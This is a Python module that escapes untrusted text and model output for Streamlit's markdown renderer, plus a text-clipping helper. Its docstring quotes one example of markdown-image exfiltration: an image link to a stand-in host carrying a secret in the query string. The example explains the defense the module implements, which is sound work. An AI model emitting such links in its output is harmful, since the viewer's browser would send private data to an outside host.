"""Untrusted text (documents, model output) made safe for `st.markdown`.

`st.markdown` would turn `![x](http://host/?q=secret)` into an image the viewer's
browser fetches, `$…$` into math and `**x**` into bold. `escape_markdown`
backslash-escapes every ASCII punctuation character (CommonMark lets any of
them be escaped and shows it literally), so no markdown, HTML, math, autolink
or directive syntax survives; line structure is kept with hard line breaks.
"""

from __future__ import annotations

import re
import string

# Every ASCII punctuation character: a superset of what markdown, GFM, remark-math
# and Streamlit's directives give meaning to, so nothing new can slip through.
_PUNCTUATION = frozenset(string.punctuation)
_LEADING_SPACE = re.compile(r"^[ \t]+")
_NBSP = "&#160;"  # a character reference: shows a space, but is not indentation


def _escape_line(line: str) -> str:
    escaped = "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in line)
    # Four leading spaces would make an indented code block: keep the indent visible
    # without giving it meaning.
    m = _LEADING_SPACE.match(escaped)
    if m:
        indent = m.group(0).replace("\t", "    ")
        escaped = _NBSP * len(indent) + escaped[m.end():]
    return escaped


def escape_markdown(text: str) -> str:
    """Return markdown that displays `text` literally (no markup, links, images or HTML)."""
    if not isinstance(text, str):
        text = str(text)
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    out: list[str] = []
    for i, line in enumerate(lines):
        esc = _escape_line(line.rstrip(" \t"))
        nxt = lines[i + 1] if i + 1 < len(lines) else ""
        # Two trailing spaces = hard break, so single newlines stay newlines
        # (a blank line already separates paragraphs).
        if esc and nxt.strip():
            esc += "  "
        out.append(esc)
    return "\n".join(out)


def clip(text: str, limit: int, *, keep_lines: bool = False) -> str:
    """Shorten plain text to at most `limit` characters, marking the cut with an ellipsis.
    Runs of whitespace become one space; with keep_lines, line breaks are kept."""
    if keep_lines:
        lines = (" ".join(line.split()) for line in str(text).splitlines())
        text = "\n".join(line for line in lines if line)
    else:
        text = " ".join(str(text).split())
    return text if len(text) <= limit else text[: max(0, limit - 1)].rstrip() + "…"
